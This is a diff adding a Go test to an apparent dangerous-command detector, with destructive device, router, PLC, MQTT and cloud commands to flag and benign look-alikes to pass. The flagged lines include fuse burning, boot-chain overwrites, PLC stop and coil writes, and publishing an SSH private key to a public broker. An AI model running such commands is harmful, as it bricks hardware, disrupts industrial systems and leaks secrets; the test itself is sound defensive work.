@@ -150,3 +150,56 @@ func TestRound51EnterpriseDatabases(t *testing.T) {
 		`sqlplus -s apps/"$PW"@EBSPRD <<< "SELECT COUNT(*) FROM ap.ap_invoices_all WHERE creation_date < ADD_MONTHS(SYSDATE,-12);"`,
 	})
 }
+
+// Boards and devices: fuses, lock bits and read-out protection written,
+// the boot chain overwritten, routers opened, PLCs written, an MQTT
+// broker's state deleted or opened, a key published to a public broker,
+// an IoT policy over every action. Reading fuses, flashing the
+// application, checking an image, reading registers, a simulator and a
+// broker on this machine pass.
+func TestRound51Devices(t *testing.T) {
+	d := NewDetector(Options{})
+	checkDanger(t, d, corpusContext, []dangerCase{
+		{`avrdude -p m328p -c usbasp -U hfuse:w:0xD9:m`, CategoryDiskWipe, "device-fuses-burned", LevelCritical},
+		{`avrdude -p atmega2560 -c stk500v2 -P /dev/ttyUSB2 -e -U lock:w:0x0C:m`, CategoryDiskWipe, "device-fuses-burned", LevelCritical},
+		{`openocd -f target/stm32l4x.cfg -c "init; reset halt; stm32l4x option_write 0 0x20 0xCC 0xFF; shutdown"`, CategoryDiskWipe, "device-fuses-burned", LevelCritical},
+		{`nrfjprog --family NRF52 --memwr 0x10001208 --val 0xFFFFFF00`, CategoryDiskWipe, "device-fuses-burned", LevelCritical},
+		{`mmc writeprotect user set permanent 0 1024 /dev/mmcblk0`, CategoryDiskWipe, "device-fuses-burned", LevelCritical},
+		{`openocd -f target/stm32f4x.cfg -c "init; reset halt; stm32f4x mass_erase 0; shutdown"`, CategoryDiskWipe, "board-flash-erased", LevelModerate},
+		{`mtd -r write /tmp/u-boot-mod.bin u-boot`, CategorySystem, "boot-chain-overwritten", LevelCritical},
+		{`sysupgrade -n -F /tmp/custom.bin`, CategorySystem, "boot-chain-overwritten", LevelCritical},
+		{`fw_setenv bootargs 'console=ttyS0 root=/dev/mmcblk0p2 rw init=/bin/sh'`, CategorySystem, "boot-chain-overwritten", LevelCritical},
+		{`rauc status mark-bad other`, CategorySystem, "boot-chain-overwritten", LevelCritical},
+		{`ssh root@gw.acme.io "uci set firewall.@zone[1].input='ACCEPT' && uci commit firewall"`, CategoryPermission, "router-opened", LevelHigh},
+		{`uci set dropbear.@dropbear[0].RootPasswordAuth='on'`, CategoryPermission, "router-opened", LevelHigh},
+		{`uci set wireless.default_radio0.encryption='none'`, CategoryPermission, "router-opened", LevelHigh},
+		{`mbpoll -m tcp -a 1 -t 0 -r 17 10.20.0.15 0`, CategorySystem, "industrial-control-write", LevelCritical},
+		{`python3 -c "import snap7; c=snap7.client.Client(); c.connect('10.10.1.20',0,1); c.plc_stop()"`, CategorySystem, "industrial-control-write", LevelCritical},
+		{`python -c "from pymodbus.client import ModbusTcpClient as C; c=C('10.0.5.10'); c.write_coil(3, False)"`, CategorySystem, "industrial-control-write", LevelCritical},
+		{`mosquitto_sub -h mqtt.acme.io -t '#' --retained-only --remove-retained -W 5`, CategorySystem, "mqtt-broker-changed", LevelHigh},
+		{`mosquitto_ctrl -h mqtt.acme.io -u admin dynsec setDefaultACLAccess subscribe allow`, CategorySystem, "mqtt-broker-changed", LevelHigh},
+		{`mosquitto_passwd -b /etc/mosquitto/passwd admin admin`, CategorySystem, "mqtt-broker-changed", LevelHigh},
+		{`mosquitto_pub -h test.mosquitto.org -t dev/dump -f ~/.ssh/id_ed25519`, CategoryExfiltration, "exfil-upload-secret", LevelCritical},
+		{`aws iot create-policy --policy-name fleet-all --policy-document '{"Statement":[{"Effect":"Allow","Action":"iot:*","Resource":"*"}]}'`, CategoryPrivilege, "cloud-owner-grant", LevelHigh},
+	})
+	checkDanger(t, d, winCorpusContextFor("powershell"), []dangerCase{
+		{`python -m espefuse --port COM9 --do-not-confirm burn_efuse DIS_DOWNLOAD_MODE 1`, CategoryDiskWipe, "device-fuses-burned", LevelCritical},
+	})
+	checkSafe(t, d, corpusContext, []string{
+		`avrdude -p m328p -c usbasp -U hfuse:r:-:h -U lfuse:r:-:h`,
+		`avrdude -p m328p -c usbasp -U flash:w:build/fw.hex:i`,
+		`espefuse.py --port /dev/ttyUSB0 summary`,
+		`openocd -f target/stm32l4x.cfg -c "init; reset halt; program build/fw.elf verify reset exit"`,
+		`sysupgrade -T /tmp/custom.bin`,
+		`uci show firewall`,
+		`uci set firewall.@zone[0].input='ACCEPT'`,
+		`mbpoll -m tcp -a 1 -t 3 -r 17 -c 4 10.20.0.15`,
+		`python3 -c "from pymodbus.client import ModbusTcpClient as C; c=C('127.0.0.1', port=5020); c.write_coil(3, False)"`,
+		`mosquitto_sub -h localhost -t 'test/#' --remove-retained -W 2`,
+		`mosquitto_pub -h localhost -t dev/test -f build/sample.json`,
+		`mosquitto_ctrl -h mqtt.acme.io -u admin dynsec listClients`,
+	})
+	checkSafe(t, d, winCorpusContextFor("powershell"), []string{
+		`python -m espefuse --port COM9 summary`,
+	})
+}
